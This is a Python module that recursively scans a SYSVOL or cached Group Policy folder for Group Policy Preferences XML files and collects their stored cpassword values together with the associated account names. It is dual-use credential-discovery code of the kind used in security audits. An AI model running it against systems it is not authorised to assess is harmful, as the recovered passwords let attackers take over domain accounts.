"""
GPP Credential Harvester
========================

Walks a file tree (a SYSVOL Policies folder, a locally cached Group Policy
history, ...) and recovers the cpassword values that Group Policy
Preferences stored in its XML files.

Features:
- One static table describes every supported GPP file
- One extraction routine serves every table entry
- Unlistable directories and unparsable files are skipped, not fatal

Design Decisions:
-----------------
1. The stored (reversibly encrypted) cpassword is reported verbatim; no
   decryption is done here
2. Files are visited in sorted order so that repeated runs over the same
   tree produce the same findings in the same order
3. Extraction is best-effort per field: a record missing userName is still
   reported if it has a cpassword
"""

import ntpath
import os
import xml.etree.ElementTree as ET
from typing import Optional, Callable, Iterator

from ..config import HarvestConfig
from ..errors import EnumerationFailure, ParseFailure
from ..model.schemas import CredentialFileSchema, CredentialFinding


CPASSWORD_MARKER = "cpassword"

GPP_SCHEMAS = (
    CredentialFileSchema("Groups.xml", "/Groups/User/Properties",
                         ("userName", "newName", "cpassword")),
    CredentialFileSchema("Services.xml", "/NTServices/NTService/Properties",
                         ("accountName", "cpassword")),
    CredentialFileSchema("Scheduledtasks.xml", "/ScheduledTasks/Task/Properties",
                         ("runAs", "cpassword"), aliases=("ScheduledTasks.xml",)),
    CredentialFileSchema("Datasources.xml", "/DataSources/DataSource/Properties",
                         ("userName", "cpassword"), aliases=("DataSources.xml",)),
    CredentialFileSchema("Printers.xml", "/Printers/SharedPrinter/Properties",
                         ("userName", "cpassword")),
    CredentialFileSchema("Drives.xml", "/Drives/Drive/Properties",
                         ("userName", "cpassword")),
)


def schema_for(filename: str) -> Optional[CredentialFileSchema]:
    """Return the schema one of whose file names occurs in filename (case-sensitive)."""
    for schema in GPP_SCHEMAS:
        if any(name in filename for name in schema.filenames):
            return schema
    return None


def cached_gpp_root(environ: Optional[dict] = None) -> Optional[str]:
    """Directory holding locally cached Group Policy files, or None."""
    env = os.environ if environ is None else environ
    all_users = env.get("ALLUSERSPROFILE")
    if not all_users:
        return None
    if "ProgramData" in all_users:
        return all_users
    return ntpath.join(all_users, "Application Data")


def sysvol_policies_path(domain: str, sysvol_root: Optional[str] = None) -> str:
    """Policies folder of a domain's SYSVOL, as UNC path or under a local mount."""
    if sysvol_root:
        return os.path.join(sysvol_root, domain, "Policies")
    return f"\\\\{domain}\\SYSVOL\\{domain}\\Policies"


def extract_findings(document: ET.Element, schema: CredentialFileSchema, source_path: str) -> list[CredentialFinding]:
    """Pull every record carrying a cpassword out of a parsed GPP document."""
    if document.tag != schema.root_tag:
        return []

    steps = schema.relative_path.split("/")
    parents = document.findall("/".join(steps[:-1])) if len(steps) > 1 else [document]

    findings = []
    for parent in parents:
        changed = parent.get("changed")
        for record in parent.findall(steps[-1]):
            fields = []
            for name in schema.fields:
                value = record.get(name)
                if value is not None:
                    fields.append((name, value))
            if changed is not None:
                fields.append(("changed", changed))

            if any(name == "cpassword" for name, _ in fields):
                findings.append(CredentialFinding(source_path=source_path, fields=tuple(fields)))
    return findings


class GPPHarvester:
    """Recovers cpassword values from GPP XML files under a root directory.

    Usage:
        harvester = GPPHarvester()
        for finding in harvester.harvest("/mnt/sysvol/corp.local/Policies"):
            print(finding.get("userName"), finding.get("cpassword"))

    harvest() can be called any number of times; each call walks the tree
    again from scratch.
    """

    def __init__(
        self,
        config: Optional[HarvestConfig] = None,
        verbose: bool = True,
        progress_callback: Optional[Callable[[str], None]] = None
    ):
        self.config = config or HarvestConfig()
        self.verbose = verbose
        self.progress_callback = progress_callback

    def _log(self, message: str) -> None:
        """Log a message to console and/or callback."""
        if self.verbose:
            print(message)
        if self.progress_callback:
            self.progress_callback(message)

    def harvest(self, root_path: str) -> Iterator[CredentialFinding]:
        """Yield a finding for every credential-bearing record under root_path."""
        for path in self.find_files(root_path):
            schema = schema_for(os.path.basename(path))
            try:
                findings = self.harvest_file(path, schema)
            except ParseFailure as e:
                self._log(f"[!] {e}")
                continue
            yield from findings

    def find_files(self, root_path: str) -> Iterator[str]:
        """Yield the GPP files under root_path, depth first in sorted order."""
        for path in self._walk(root_path):
            if schema_for(os.path.basename(path)) is not None:
                yield path

    def harvest_file(self, path: str, schema: CredentialFileSchema) -> list[CredentialFinding]:
        """Parse one GPP file.

        Raises:
            ParseFailure: If the file cannot be read or is not well-formed XML
        """
        try:
            with open(path, "rb") as f:
                raw = f.read()
        except OSError as e:
            raise ParseFailure(path, e.strerror or str(e)) from e

        try:
            document = ET.fromstring(raw)
        except ET.ParseError as e:
            raise ParseFailure(path, str(e)) from e

        # the marker is looked for in the decoded document so UTF-16 files match too
        if CPASSWORD_MARKER not in ET.tostring(document, encoding="unicode"):
            return []
        return extract_findings(document, schema, path)

    def _walk(self, directory: str) -> Iterator[str]:
        try:
            with os.scandir(directory) as it:
                items = sorted(it, key=lambda e: e.name)
        except OSError as e:
            failure = EnumerationFailure(directory, e.strerror or str(e))
            self._log(f"[!] {failure}")
            return

        subdirs = []
        for item in items:
            try:
                if item.is_dir(follow_symlinks=self.config.follow_symlinks):
                    subdirs.append(item.path)
                elif item.is_file():
                    yield item.path
            except OSError as e:
                self._log(f"[!] {EnumerationFailure(item.path, e.strerror or str(e))}")

        for subdir in subdirs:
            yield from self._walk(subdir)
